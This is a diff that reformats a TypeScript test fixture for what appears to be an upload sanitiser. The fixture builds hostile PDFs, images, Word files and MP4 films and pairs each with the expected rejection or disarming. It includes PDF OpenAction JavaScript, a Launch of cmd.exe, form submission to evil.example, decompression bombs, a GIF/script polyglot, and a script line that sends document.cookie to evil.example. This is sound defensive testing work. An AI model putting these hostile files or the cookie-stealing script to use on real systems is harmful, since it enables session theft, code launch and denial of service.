@@ -2,7 +2,18 @@
 import { deflateSync } from 'node:zlib'
 import sharp from 'sharp'
 import type { HostileFile } from './hostile-files.ts'
-import { AUTHOR, doc, docx, EXIF, jpeg, part, pdf, picture, png, SECRET_PLACE } from './sample-files.ts'
+import {
+  AUTHOR,
+  doc,
+  docx,
+  EXIF,
+  jpeg,
+  part,
+  pdf,
+  picture,
+  png,
+  SECRET_PLACE,
+} from './sample-files.ts'
 import { box, film, track, uint32 } from './sample-films.ts'
 
 /** Behind `ftyp` and the head of `mdat`. */
@@ -13,12 +24,33 @@ const WRONG_TYPE = { status: 415, cause: 'wrong_type' } as const
 const PROTECTED = { status: 422, cause: 'protected_file' } as const
 const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>'
 
-const evidence = (title: string, becomes: HostileFile['becomes'], make: HostileFile['make'], more: Partial<HostileFile> = {}): HostileFile => ({ title, field: 'report1', name: 'statement.pdf', type: 'application/octet-stream', make, becomes, ...more })
+const evidence = (
+  title: string,
+  becomes: HostileFile['becomes'],
+  make: HostileFile['make'],
+  more: Partial<HostileFile> = {},
+): HostileFile => ({
+  title,
+  field: 'report1',
+  name: 'statement.pdf',
+  type: 'application/octet-stream',
+  make,
+  becomes,
+  ...more,
+})
 /** A document whose catalogue does something when it is opened. */
-const opening = (action: string, more = ''): Buffer => Buffer.from(pdf(undefined, more).toString('latin1').replace('/Type /Catalog', `/Type /Catalog /OpenAction ${action}`), 'latin1')
-const stream = (number: number, dictionary: string, content: Buffer): string => `${number} 0 obj\n<< ${dictionary} /Length ${content.length} >>\nstream\n${content.toString('latin1')}\nendstream\nendobj\n`
+const opening = (action: string, more = ''): Buffer =>
+  Buffer.from(
+    pdf(undefined, more)
+      .toString('latin1')
+      .replace('/Type /Catalog', `/Type /Catalog /OpenAction ${action}`),
+    'latin1',
+  )
+const stream = (number: number, dictionary: string, content: Buffer): string =>
+  `${number} 0 obj\n<< ${dictionary} /Length ${content.length} >>\nstream\n${content.toString('latin1')}\nendstream\nendobj\n`
 const SCRIPTED = '7 0 << /S /JavaScript /JS (app.alert(1)) >>'
-const objects = (filter: string, content: Buffer): string => stream(8, `/Type /ObjStm /N 1 /First 4 /Filter ${filter}`, content)
+const objects = (filter: string, content: Buffer): string =>
+  stream(8, `/Type /ObjStm /N 1 /First 4 /Filter ${filter}`, content)
 
 async function brokenCheck(): Promise<Buffer> {
   const whole = Buffer.from(await png(64, 64))
@@ -27,16 +59,36 @@ async function brokenCheck(): Promise<Buffer> {
   return whole
 }
 async function hugeAnimation(): Promise<Buffer> {
-  const frames = await Promise.all(Array.from({ length: 30 }, () => picture(300, 300).png().toBuffer()))
-  return sharp(frames, { join: { animated: true } }).webp({ quality: 20 }).toBuffer()
+  const frames = await Promise.all(
+    Array.from({ length: 30 }, () => picture(300, 300).png().toBuffer()),
+  )
+  return sharp(frames, { join: { animated: true } })
+    .webp({ quality: 20 })
+    .toBuffer()
 }
 /** 16,384 x 16,384: 256 megapixels that pack into 33 KB. */
-const vast = (): Promise<Buffer> => sharp({ create: { width: 16_384, height: 16_384, channels: 3, background: '#808080' }, limitInputPixels: false }).toColourspace('b-w').png({ compressionLevel: 9 }).toBuffer()
+const vast = (): Promise<Buffer> =>
+  sharp({
+    create: { width: 16_384, height: 16_384, channels: 3, background: '#808080' },
+    limitInputPixels: false,
+  })
+    .toColourspace('b-w')
+    .png({ compressionLevel: 9 })
+    .toBuffer()
 
 function manyPages(count: number): Buffer {
   const kids = Array.from({ length: count }, (_, index) => `${index + 10} 0 R`).join(' ')
-  const pages = Array.from({ length: count }, (_, index) => `${index + 10} 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n`).join('')
-  return Buffer.from(pdf(undefined, pages).toString('latin1').replace('/Kids [3 0 R] /Count 1', `/Kids [${kids}] /Count ${count}`), 'latin1')
+  const pages = Array.from(
+    { length: count },
+    (_, index) =>
+      `${index + 10} 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n`,
+  ).join('')
+  return Buffer.from(
+    pdf(undefined, pages)
+      .toString('latin1')
+      .replace('/Kids [3 0 R] /Count 1', `/Kids [${kids}] /Count ${count}`),
+    'latin1',
+  )
 }
 
 const MEGABYTE = 1024 * 1024
@@ -46,63 +98,199 @@ const escapedLetters = (): Buffer => pdf(undefined, '#41'.repeat((19 * MEGABYTE)
 const overlapping = (): Buffer => {
   const heads = `4 0 4 ${60 * MEGABYTE} `.repeat(1_000)
   const content = Buffer.concat([Buffer.from(heads), Buffer.alloc(60 * MEGABYTE, '(')])
-  return pdf(undefined, stream(8, `/Type /ObjStm /N 2000 /First ${heads.length} /Filter /FlateDecode`, deflateSync(content)))
+  return pdf(
+    undefined,
+    stream(
+      8,
+      `/Type /ObjStm /N 2000 /First ${heads.length} /Filter /FlateDecode`,
+      deflateSync(content),
+    ),
+  )
 }
 
 /** For both ways of sending. */
 export const HOSTILE_EVIDENCE: readonly HostileFile[] = [
-  evidence('a PDF that runs a script when it is opened', ACTIVE, () => opening('<< /S /JavaScript /JS (app.alert\\(1\\)) >>')),
-  evidence('a PDF that hides that in the spelling', ACTIVE, () => opening('<< /S /J#61vaScr#69pt /#4aS (app.alert\\(1\\)) >>')),
-  evidence('a PDF with the script in a packed object', ACTIVE, () => pdf(undefined, objects('/FlateDecode', deflateSync(Buffer.from(SCRIPTED))))),
-  evidence('a PDF with objects in another packing', PROTECTED, () => pdf(undefined, objects('/ASCIIHexDecode', Buffer.from(Buffer.from(SCRIPTED).toString('hex'))))),
-  evidence('a PDF with objects packed twice', PROTECTED, () => pdf(undefined, objects('[/ASCIIHexDecode /FlateDecode]', Buffer.from(deflateSync(Buffer.from(SCRIPTED)).toString('hex'))))),
+  evidence('a PDF that runs a script when it is opened', ACTIVE, () =>
+    opening('<< /S /JavaScript /JS (app.alert\\(1\\)) >>'),
+  ),
+  evidence('a PDF that hides that in the spelling', ACTIVE, () =>
+    opening('<< /S /J#61vaScr#69pt /#4aS (app.alert\\(1\\)) >>'),
+  ),
+  evidence('a PDF with the script in a packed object', ACTIVE, () =>
+    pdf(undefined, objects('/FlateDecode', deflateSync(Buffer.from(SCRIPTED)))),
+  ),
+  evidence('a PDF with objects in another packing', PROTECTED, () =>
+    pdf(undefined, objects('/ASCIIHexDecode', Buffer.from(Buffer.from(SCRIPTED).toString('hex')))),
+  ),
+  evidence('a PDF with objects packed twice', PROTECTED, () =>
+    pdf(
+      undefined,
+      objects(
+        '[/ASCIIHexDecode /FlateDecode]',
+        Buffer.from(deflateSync(Buffer.from(SCRIPTED)).toString('hex')),
+      ),
+    ),
+  ),
   evidence('a PDF that starts a program', ACTIVE, () => opening('<< /S /Launch /F (cmd.exe) >>')),
-  evidence('a PDF with a file inside', ACTIVE, () => pdf(undefined, stream(7, '/Type /EmbeddedFile', Buffer.from('MZ')))),
-  evidence('a PDF that sends a form', ACTIVE, () => opening('<< /S /SubmitForm /F (https://evil.example/) >>')),
-  evidence('a PDF that opens another one elsewhere', ACTIVE, () => opening('<< /S /GoToR /F (//evil.example/a.pdf) >>')),
+  evidence('a PDF with a file inside', ACTIVE, () =>
+    pdf(undefined, stream(7, '/Type /EmbeddedFile', Buffer.from('MZ'))),
+  ),
+  evidence('a PDF that sends a form', ACTIVE, () =>
+    opening('<< /S /SubmitForm /F (https://evil.example/) >>'),
+  ),
+  evidence('a PDF that opens another one elsewhere', ACTIVE, () =>
+    opening('<< /S /GoToR /F (//evil.example/a.pdf) >>'),
+  ),
   evidence('a PDF with a form of XFA', ACTIVE, () => opening('<< /XFA 7 0 R >>')),
   evidence('a PDF cut off', DAMAGED, () => pdf().subarray(0, 300)),
   evidence('a PDF of 300 pages', 'disarmed', () => manyPages(300), { mustVanish: [AUTHOR] }),
-  evidence('a PDF whose packed object unpacks to 300 MB', PROTECTED, () => pdf(undefined, objects('/FlateDecode', deflateSync(Buffer.alloc(300 * 1024 * 1024))))),
-  evidence('a PDF of 19 MB of escaped letters', 'disarmed', escapedLetters, { mustVanish: [AUTHOR] }),
+  evidence('a PDF whose packed object unpacks to 300 MB', PROTECTED, () =>
+    pdf(undefined, objects('/FlateDecode', deflateSync(Buffer.alloc(300 * 1024 * 1024)))),
+  ),
+  evidence('a PDF of 19 MB of escaped letters', 'disarmed', escapedLetters, {
+    mustVanish: [AUTHOR],
+  }),
   evidence('a PDF whose packed objects overlap', PROTECTED, overlapping),
-  evidence('a picture of 256 megapixels', { status: 422, cause: 'too_many_pixels' }, vast, { name: 'vast.png' }),
+  evidence('a picture of 256 megapixels', { status: 422, cause: 'too_many_pixels' }, vast, {
+    name: 'vast.png',
+  }),
   evidence('a PNG with a wrong checksum', DAMAGED, brokenCheck, { name: 'a.png' }),
-  evidence('a long animation in WebP', 'disarmed', hugeAnimation, { name: 'a.webp', mustVanish: ['ANIM', 'ANMF'] }),
-  evidence('a JPEG with its place, as evidence', 'disarmed', () => picture().jpeg().withExif(EXIF).toBuffer(), { name: 'a.jpg', mustVanish: [SECRET_PLACE, 'Exif'] }),
-  evidence('a picture that says it is a document', 'disarmed', () => jpeg(), { name: 'contract.pdf.jpg.docx', type: 'application/pdf' }),
-  evidence('a GIF that is a script as well', 'disarmed', async () => Buffer.concat([await picture(64, 64).gif().toBuffer(), Buffer.from(`*/=1;alert(1)//${SCRIPT}`)]), { name: 'a.gif', mustVanish: ['alert(1)', '<script>'] }),
-  evidence('TIFF as evidence', WRONG_TYPE, () => picture(64, 64).tiff().toBuffer(), { name: 'scan.tiff' }),
-  evidence('a document inside of which another one carries macros', ACTIVE, () => docx([part('word/embeddings/oleObject1.bin', 'x')])),
-  evidence('an old Word document with a project of macros', ACTIVE, () => doc(['WordDocument', 'VBA', '_VBA_PROJECT']), { name: 'a.doc' }),
+  evidence('a long animation in WebP', 'disarmed', hugeAnimation, {
+    name: 'a.webp',
+    mustVanish: ['ANIM', 'ANMF'],
+  }),
+  evidence(
+    'a JPEG with its place, as evidence',
+    'disarmed',
+    () => picture().jpeg().withExif(EXIF).toBuffer(),
+    { name: 'a.jpg', mustVanish: [SECRET_PLACE, 'Exif'] },
+  ),
+  evidence('a picture that says it is a document', 'disarmed', () => jpeg(), {
+    name: 'contract.pdf.jpg.docx',
+    type: 'application/pdf',
+  }),
+  evidence(
+    'a GIF that is a script as well',
+    'disarmed',
+    async () =>
+      Buffer.concat([
+        await picture(64, 64).gif().toBuffer(),
+        Buffer.from(`*/=1;alert(1)//${SCRIPT}`),
+      ]),
+    { name: 'a.gif', mustVanish: ['alert(1)', '<script>'] },
+  ),
+  evidence('TIFF as evidence', WRONG_TYPE, () => picture(64, 64).tiff().toBuffer(), {
+    name: 'scan.tiff',
+  }),
+  evidence('a document inside of which another one carries macros', ACTIVE, () =>
+    docx([part('word/embeddings/oleObject1.bin', 'x')]),
+  ),
+  evidence(
+    'an old Word document with a project of macros',
+    ACTIVE,
+    () => doc(['WordDocument', 'VBA', '_VBA_PROJECT']),
+    { name: 'a.doc' },
+  ),
 ]
 
 /** In parts; the other way takes no films at all. */
 export const HOSTILE_FILMS: readonly HostileFile[] = [
-  evidence('a film that tells its place in six ways', 'disarmed', () => film(), { mustVanish: [SECRET_PLACE, 'ISO6709', 'Phone of'] }),
-  evidence('a film with a page behind it', 'disarmed', () => film({ end: box('free', SCRIPT) }), { mustVanish: ['<script>'] }),
-  evidence('a film with a page in a box that nobody knows', 'disarmed', () => film({ moovMore: box('evil', SCRIPT), end: box('html', SCRIPT) }), { mustVanish: ['<script>'] }),
-  evidence('a film with places under the subtitles', 'disarmed', () => film({ second: 'sbtl' }), { mustVanish: [SECRET_PLACE] }),
-  evidence('a film cut off', DAMAGED, () => film({ picture: Buffer.alloc(5_000) }).subarray(0, 4_000)),
+  evidence('a film that tells its place in six ways', 'disarmed', () => film(), {
+    mustVanish: [SECRET_PLACE, 'ISO6709', 'Phone of'],
+  }),
+  evidence('a film with a page behind it', 'disarmed', () => film({ end: box('free', SCRIPT) }), {
+    mustVanish: ['<script>'],
+  }),
+  evidence(
+    'a film with a page in a box that nobody knows',
+    'disarmed',
+    () => film({ moovMore: box('evil', SCRIPT), end: box('html', SCRIPT) }),
+    { mustVanish: ['<script>'] },
+  ),
+  evidence('a film with places under the subtitles', 'disarmed', () => film({ second: 'sbtl' }), {
+    mustVanish: [SECRET_PLACE],
+  }),
+  evidence('a film cut off', DAMAGED, () =>
+    film({ picture: Buffer.alloc(5_000) }).subarray(0, 4_000),
+  ),
   evidence('a film without the end of its index', DAMAGED, () => film().subarray(0, -30)),
   evidence('a film of a brand that does not exist', WRONG_TYPE, () => film({ brand: 'evil' })),
   evidence('a picture of Apple in the boxes of a film', WRONG_TYPE, () => film({ brand: 'heic' })),
-  evidence('a film with bytes behind its boxes', DAMAGED, () => film({ end: Buffer.from('<html>') })),
-  evidence('a film whose track lies elsewhere', ACTIVE, () => film({ dref: box('url ', uint32(0), 'https://evil.example/who-looks.mp4\0') })),
-  evidence('a film of places alone', 'disarmed', () => film({ picture: Buffer.alloc(0) }), { mustVanish: [SECRET_PLACE] }),
-  evidence('boxes of a film without picture and sound', { status: 415, cause: 'not_evidence' }, () => Buffer.concat([box('ftyp', 'isom', uint32(0)), box('mdat', SCRIPT), box('moov', box('udta', SCRIPT))])),
-  evidence('a film in fragments that records places as well', { status: 422, cause: 'protected_film' }, () => film({ moovMore: box('mvex', box('trex', uint32(0))) })),
-  evidence('a film with two indexes', DAMAGED, () => film({ end: box('moov', box('udta', SCRIPT)) })),
-  evidence('a film whose box says it is 2^60 bytes long', DAMAGED, () => film({ end: Buffer.concat([uint32(1), Buffer.from('free'), uint32(0x10_00_00_00, 0)]) })),
-  evidence('a film whose box says it is 3 bytes long', DAMAGED, () => film({ end: Buffer.concat([uint32(3), Buffer.from('free')]) })),
-  evidence('a film of 30,000 empty boxes', { status: 422, cause: 'protected_film' }, () => film({ end: Buffer.concat(Array.from({ length: 30_000 }, () => box('free'))) })),
-  evidence('a film of 65 tracks', { status: 422, cause: 'protected_film' }, () => film({ moovMore: Buffer.concat(Array<Buffer>(63).fill(track({ kind: 'meta', at: 40, sizes: [1] }))) })),
-  evidence('a film of 11 tracks with 50,000 samples each', { status: 422, cause: 'protected_film' }, () => film({ moovMore: Buffer.concat(Array<Buffer>(11).fill(track({ kind: 'meta', at: 40, sizes: Array<number>(50_000).fill(0) }))) })),
-  evidence('a film with 2,000 empty boxes in its index', { status: 422, cause: 'protected_film' }, () => film({ moovMore: Buffer.concat(Array<Buffer>(2_000).fill(box('udta'))) })),
-  evidence('a film with 600,000 samples of places, all of one size', 'disarmed', () => {
-    const places = Buffer.from(SECRET_PLACE.repeat(Math.ceil(600_000 / SECRET_PLACE.length)))
-    return film({ picture: places, moovMore: track({ kind: 'meta', at: FILM_PICTURE_AT, sizes: [], same: { size: 1, count: places.length } }) })
-  }, { mustVanish: [SECRET_PLACE] }),
+  evidence('a film with bytes behind its boxes', DAMAGED, () =>
+    film({ end: Buffer.from('<html>') }),
+  ),
+  evidence('a film whose track lies elsewhere', ACTIVE, () =>
+    film({ dref: box('url ', uint32(0), 'https://evil.example/who-looks.mp4\0') }),
+  ),
+  evidence('a film of places alone', 'disarmed', () => film({ picture: Buffer.alloc(0) }), {
+    mustVanish: [SECRET_PLACE],
+  }),
+  evidence(
+    'boxes of a film without picture and sound',
+    { status: 415, cause: 'not_evidence' },
+    () =>
+      Buffer.concat([
+        box('ftyp', 'isom', uint32(0)),
+        box('mdat', SCRIPT),
+        box('moov', box('udta', SCRIPT)),
+      ]),
+  ),
+  evidence(
+    'a film in fragments that records places as well',
+    { status: 422, cause: 'protected_film' },
+    () => film({ moovMore: box('mvex', box('trex', uint32(0))) }),
+  ),
+  evidence('a film with two indexes', DAMAGED, () =>
+    film({ end: box('moov', box('udta', SCRIPT)) }),
+  ),
+  evidence('a film whose box says it is 2^60 bytes long', DAMAGED, () =>
+    film({ end: Buffer.concat([uint32(1), Buffer.from('free'), uint32(0x10_00_00_00, 0)]) }),
+  ),
+  evidence('a film whose box says it is 3 bytes long', DAMAGED, () =>
+    film({ end: Buffer.concat([uint32(3), Buffer.from('free')]) }),
+  ),
+  evidence('a film of 30,000 empty boxes', { status: 422, cause: 'protected_film' }, () =>
+    film({ end: Buffer.concat(Array.from({ length: 30_000 }, () => box('free'))) }),
+  ),
+  evidence('a film of 65 tracks', { status: 422, cause: 'protected_film' }, () =>
+    film({
+      moovMore: Buffer.concat(Array<Buffer>(63).fill(track({ kind: 'meta', at: 40, sizes: [1] }))),
+    }),
+  ),
+  evidence(
+    'a film of 11 tracks with 50,000 samples each',
+    { status: 422, cause: 'protected_film' },
+    () =>
+      film({
+        moovMore: Buffer.concat(
+          Array<Buffer>(11).fill(
+            track({ kind: 'meta', at: 40, sizes: Array<number>(50_000).fill(0) }),
+          ),
+        ),
+      }),
+  ),
+  evidence(
+    'a film with 2,000 empty boxes in its index',
+    { status: 422, cause: 'protected_film' },
+    () => film({ moovMore: Buffer.concat(Array<Buffer>(2_000).fill(box('udta'))) }),
+  ),
+  evidence(
+    'a film with 600,000 samples of places, all of one size',
+    'disarmed',
+    () => {
+      const places = Buffer.from(SECRET_PLACE.repeat(Math.ceil(600_000 / SECRET_PLACE.length)))
+      return film({
+        picture: places,
+        moovMore: track({
+          kind: 'meta',
+          at: FILM_PICTURE_AT,
+          sizes: [],
+          same: { size: 1, count: places.length },
+        }),
+      })
+    },
+    { mustVanish: [SECRET_PLACE] },
+  ),
   evidence('a film whose samples lie behind its end', DAMAGED, () => {
     const whole = film()
     const at = whole.lastIndexOf('stco') + 12
